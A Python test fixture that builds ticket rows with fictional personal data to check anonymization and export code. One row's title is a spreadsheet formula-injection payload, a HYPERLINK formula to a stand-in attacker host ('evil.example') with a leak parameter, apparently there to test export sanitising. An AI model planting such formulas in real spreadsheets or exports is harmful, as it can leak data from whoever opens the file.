"""Hand-made ticket rows full of realistic personal data, for anonymization and export tests."""
from __future__ import annotations

import pandas as pd

from core.anonymize import normalize_value

# One agent is written three ways ('Smith, John', 'John Smith', 'JOHN SMITH'): one person.
AGENTS = ["Smith, John", "Zoë Wanjiru", "Mary O'Sullivan", "WILL MAY", "Mark Otieno",
          "John Smith", "José Álvarez", "JOHN SMITH"]
SCHOOLS = ["St. Mary's Girls High School", "Nairobi Academy", "Kilimani Primary School",
           "Moi Forces Academy", "Nairobi Academy", "Brookhouse Junior", "Kilimani Primary School",
           "St. Mary's Girls High School"]
REGIONAL = ["Peter Kamau", "Aisha Noor", "Peter Kamau", "Aisha Noor",
            "Peter Kamau", "Aisha Noor", "Peter Kamau", "Aisha Noor"]
RELATIONSHIP = ["Faith Achieng", "Ochieng, David", "Faith Achieng", "David Ochieng",
                "Brian Kiprop", "Brian Kiprop", "Faith Achieng", "Ochieng, David"]
REQUESTERS = ["mary.osullivan@stmarys.ac.ke", "j.smith@nairobi-academy.org", "p.kamau@moi.sc.ke",
              "zoe.w@brookhouse.ac.ke", "ops@kilimani.ac.ke", "mary.osullivan@stmarys.ac.ke",
              "j.smith@nairobi-academy.org", "finance@stmarys.ac.ke"]
TITLES = [
    "John Smith cannot log in to the finance module",
    "Call Zoe Wanjiru on +254 712 345 678 about the timetable",
    "mary.osullivan@stmarys.ac.ke says O'Sullivan's report fails",
    "WILL MAY approve the fees for Nairobi Academy? Will may be late",
    "Mark's laptop: call (555) 123-4567 or 555-123-4567",
    "See https://portal.example.com/tickets/55 from Kilimani Primary School",
    '=HYPERLINK("http://evil.example/x?leak=1","click")',
    "José Álvarez (jose alvarez) rang 0712 345678 and +44 20 7946 0958",
]
EMAILS = ["mary.osullivan@stmarys.ac.ke"]
PHONES = ["712 345 678", "123-4567", "7946 0958", "0712 345678"]
URLS = ["portal.example.com", "evil.example"]
# Words of the personal values that must not survive anywhere (labels like 'School' excluded).
NAME_WORDS = ["john", "smith", "zoe", "wanjiru", "mary", "sullivan", "will", "may", "mark",
              "otieno", "jose", "alvarez", "nairobi", "kilimani", "brookhouse", "peter",
              "kamau", "aisha", "noor", "faith", "achieng", "david", "ochieng", "brian", "kiprop"]

PERSONAL = {
    "School Name": "School",
    "Regional Manager Name": "Regional Manager",
    "Relationship Manager Name": "Relationship Manager",
    "Resolved By Name": "Agent",
    "Requester Email": "Requester",
}
FREE_TEXT = ("Issue Title",)


def wide_frame() -> pd.DataFrame:
    """Eight ticket events with personal data in five columns and in the title."""
    return pd.DataFrame({
        "issue_tracker": [101, 102, 103, 104, 105, 106, 107, 108],
        "Issue Title": TITLES,
        "School Name": SCHOOLS,
        "Regional Manager Name": REGIONAL,
        "Relationship Manager Name": RELATIONSHIP,
        "Resolved By Name": AGENTS,
        "Requester Email": REQUESTERS,
        "product": ["ACME_FINANCE", "ACME_TIMETABLE", "ACME_ANALYTICS", "ACME_FINANCE",
                    "ACME_BULK_SMS", "ACME_ANALYTICS", "ACME_FINANCE", "ACME_NFC"],
        "priority_level": ["HIGH", "LOW", "MEDIUM", "HIGH", "LOW", "MEDIUM", "HIGH", "LOW"],
        "frt_seconds": [-5.0, 44.0, 3600.5, None, 12.0, 0.0, 7.25, 86400.0],
        "escalations": [-5, 44, 0, 1, 2, 3, 4, 5],
        "event_timestamp": pd.to_datetime([
            "2025-07-16 07:06:15", "2025-07-21 08:57:37", "2025-07-21 09:08:00", None,
            "2025-09-01 00:00:00", "2025-09-30 23:59:59", "2025-10-02 12:30:00", "2025-11-05 17:45:10",
        ]).astype("datetime64[us]"),
    })


def events_frame() -> pd.DataFrame:
    """A contract-shaped events table for the same rows (client, agent, product)."""
    wide = wide_frame()
    return pd.DataFrame({
        "source_row": range(2, 10),
        "ticket_id": wide["issue_tracker"].astype("str"),
        "event_time": wide["event_timestamp"],
        "product": wide["product"].astype("str"),
        "client": wide["School Name"].astype("str"),
        "agent": wide["Resolved By Name"].astype("str"),
    })


def originals() -> set[str]:
    """Every personal value in the fixture."""
    wide = wide_frame()
    return {str(v) for c in PERSONAL for v in wide[c]}


def surviving(texts, words=NAME_WORDS) -> list[str]:
    """Name words (as whole words, ignoring case and accents), e-mails, phones and URLs
    still present in any of ``texts``."""
    raw = " \n ".join(map(str, texts))
    folded = " " + normalize_value(raw) + " "
    found = [w for w in words if f" {w} " in folded]
    return found + [x for x in EMAILS + PHONES + URLS if x in raw]
